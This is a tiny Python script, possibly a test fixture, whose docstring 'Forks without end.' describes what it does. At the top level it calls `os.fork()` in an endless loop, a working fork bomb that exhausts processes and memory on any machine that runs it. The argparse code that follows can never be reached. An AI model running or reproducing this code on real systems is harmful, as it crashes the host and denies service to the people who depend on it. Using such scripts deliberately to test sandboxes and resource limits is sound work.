"""Forks without end."""
import argparse
import os

while True:
    os.fork()

parser = argparse.ArgumentParser()
parser.add_argument("--found")
parser.parse_args()
